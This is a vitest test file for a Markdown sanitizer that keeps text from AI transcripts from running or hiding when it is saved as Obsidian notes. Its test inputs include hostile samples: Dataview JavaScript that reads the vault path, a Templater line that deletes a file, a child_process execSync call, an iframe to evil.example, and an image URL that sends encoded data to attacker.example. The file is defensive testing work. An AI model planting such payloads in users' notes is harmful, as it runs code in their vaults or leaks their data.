import { describe, expect, it } from "vitest";
import { inertCode, inertFenceLine, inertLine } from "../../../src/core/notes/inert-markdown";
import { fenced, inlineCode, safeMarkdown } from "../../../src/core/notes/render-tool-call";

const ZWSP = "\u200b";

describe("inertLine: transcript text that Obsidian or a plugin would run, or that would vanish", () => {
	it.each([
		["Dataview inline JavaScript", "Run `$= dv.el('b', app.vault.adapter.basePath)` now", `Run \`${ZWSP}$= dv.el('b', app.vault.adapter.basePath)\` now`],
		["the same with a double delimiter", "Run `` $= dv.pages().length `` now", `Run \`\` ${ZWSP}$= dv.pages().length \`\` now`],
		["Templater in text", "<%* await app.vault.delete(f) %>", "<\\%* await app.vault.delete(f) %>"],
		["Templater in code", "`<%= user.name %>`", `\`<${ZWSP}%= user.name %>\``],
		["an iframe", '<iframe src="https://evil.example"></iframe>', '\\<iframe src="https://evil.example">\\</iframe>'],
		["a generic type Obsidian took for a tag", "returns Vec<String> here", "returns Vec\\<String> here"],
		["an HTML comment", "<!-- hidden -->", "\\<!-- hidden -->"],
		["an Obsidian comment", "a %%hidden%% word", "a %\\%hidden%\\% word"],
		["an image that would be fetched when shown", "![status](https://attacker.example/p.png?d=aGVsbG8)", "\\![status](https://attacker.example/p.png?d=aGVsbG8)"],
		["a reference image", "see ![logo][1]", "see \\![logo][1]"],
		["a task Tasks and Dataview would list among the user's", "- [ ] Run the migration", "- \\[ ] Run the migration"],
		["a done task in a quote", "> 2. [x] Deploy", "> 2. \\[x] Deploy"],
	])("%s", (_what, input, expected) => {
		expect(inertLine(input)).toBe(expected);
		// Made once: a second pass changes nothing more.
		expect(inertLine(expected)).toBe(expected);
	});

	it.each(["a < b and c > d", "x <= 3", "50% of 3 <- 4", "`<div>` in code stays", "`= this.file.name` is a read-only query", "already escaped \\<div>", "plain words", "an embed ![[Daily note]] stays", "Wow! [link](x)", "`![x](y)` in code", "- [link](x) in a list", "- [[Wiki link]]", "[ ] not a list item"])("keeps %s", (text) => {
		expect(inertLine(text)).toBe(text);
	});
});

describe("safeMarkdown: fenced blocks", () => {
	it("turns a block a plugin would run into plain code of its language, its name kept after it", () => {
		const reply = "Here:\n```dataviewjs\ndv.paragraph(require('child_process').execSync('id').toString())\n```\nand\n~~~ js-engine\nreturn 1\n~~~\n```button\nname Run\naction Delete current file\n```";
		expect(safeMarkdown(reply)).toBe(
			"Here:\n```js dataviewjs\ndv.paragraph(require('child_process').execSync('id').toString())\n```\nand\n~~~ js js-engine\nreturn 1\n~~~\n```yaml button\nname Run\naction Delete current file\n```",
		);
	});

	it("keeps code as it is, but for Templater's `<%`; a block left open is closed", () => {
		expect(safeMarkdown("```erb\n<%= @user.name %>\n<div>\n```\n<b>bold</b>")).toBe(`\`\`\`erb\n<${ZWSP}%= @user.name %>\n<div>\n\`\`\`\n\\<b>bold\\</b>`);
		expect(safeMarkdown("```ts\nconst a: Array<string> = [];")).toBe("```ts\nconst a: Array<string> = [];\n```");
		expect(inertFenceLine("```DataviewJS", "```")).toBe("```js DataviewJS");
		// Inside a quote or a list item Obsidian runs it too.
		expect(safeMarkdown("> ```dataviewjs\n> dv.el('b', 1)\n> ```")).toBe("> ```js dataviewjs\n> dv.el('b', 1)\n> ```");
		expect(inertLine("- ~~~dataviewjs")).toBe("- ~~~js dataviewjs");
		expect(inertLine("> > 1. ```button")).toBe("> > 1. ```yaml button");
		expect(inertLine("> ```ts")).toBe("> ```ts");
		expect(inertFenceLine("```typescript title=x", "```")).toBe("```typescript title=x");
		expect(inertCode("a <%b")).toBe(`a <${ZWSP}%b`);
	});
});

describe("the code we make of tool input and output", () => {
	it("breaks Templater's <% in a block and Dataview's $= in a span", () => {
		expect(fenced("erb", "<%= render 'form' %>")).toBe(`\`\`\`erb\n<${ZWSP}%= render 'form' %>\n\`\`\``);
		expect(inlineCode("$= dv.pages().length")).toBe(`\`${ZWSP}$= dv.pages().length\``);
		expect(inlineCode("src/app.ts")).toBe("`src/app.ts`");
	});
});

describe("inert Markdown on hostile text", () => {
	it("stays linear: 100,000 list markers or quotes before a fence, 100,000 backslashes or backticks", () => {
		const lines = [`${"- ".repeat(100_000)}\`\`\`dataviewjs`, `${"> ".repeat(100_000)}x`, `${"\\".repeat(100_000)}<x`, `${"`".repeat(100_000)}$= x`];
		const started = Date.now();
		expect(inertLine(lines[0]!).endsWith("```js dataviewjs")).toBe(true);
		for (const line of lines.slice(1)) inertLine(line);
		// No timing can be exact; each is a few milliseconds when linear.
		expect(Date.now() - started).toBeLessThan(5_000);
	});
});


describe("Dataview's inline JavaScript, as Dataview finds it (a span's text trimmed)", () => {
	it.each([
		["a tab before the prefix", "Run `\t$=dv.el('b', 1)` now", `Run \`\t${ZWSP}$=dv.el('b', 1)\` now`],
		["a no-break space before it", "Run `\u00a0$=dv.el('b', 1)` now", `Run \`\u00a0${ZWSP}$=dv.el('b', 1)\` now`],
		["a span opened on the line before", "$=dv.el('b', 1)` too", `${ZWSP}$=dv.el('b', 1)\` too`],
		["the middle line of a span over three", "  $=dv.el('b', 1)", `  ${ZWSP}$=dv.el('b', 1)`],
	])("%s", (_what, input, expected) => {
		expect(inertLine(input)).toBe(expected);
		expect(inertLine(expected)).toBe(expected);
	});

	it("a fence on a list item's next line, indented to its text, loses its script language", () => {
		const reply = "- set up\n  - add the view\n    ```dataviewjs\n    dv.el('b', 1)\n    ```";
		expect(safeMarkdown(reply)).toContain("    ```js dataviewjs");
		expect(inertLine("        ~~~ dataviewjs")).toBe("        ~~~ js dataviewjs");
		// A run of backticks closed on its line is inline code: what follows it is still made inert.
		expect(inertLine("```npm i``` <iframe src=x>")).toBe("```npm i``` \\<iframe src=x>");
	});
});

describe("headings named as the note's own", () => {
	it("are escaped, so a pasted note's turns take no anchor of this one; other headings stay", () => {
		const pasted = "Continue from my notes:\n### You · 2\nFix it\n### Claude\nDone\n## Conversation\nYou · 3\n---\n## Summary\n# Plan";
		expect(safeMarkdown(pasted)).toBe("Continue from my notes:\n\\### You · 2\nFix it\n\\### Claude\nDone\n\\## Conversation\nYou · 3\n\\---\n## Summary\n# Plan");
		expect(inertLine("> ###   you  ·  12 ##")).toBe("> \\###   you  ·  12 ##");
		expect(inertLine("- ## Codex")).toBe("- \\## Codex");
		// Made once.
		expect(safeMarkdown(safeMarkdown(pasted))).toBe(safeMarkdown(pasted));
	});
});
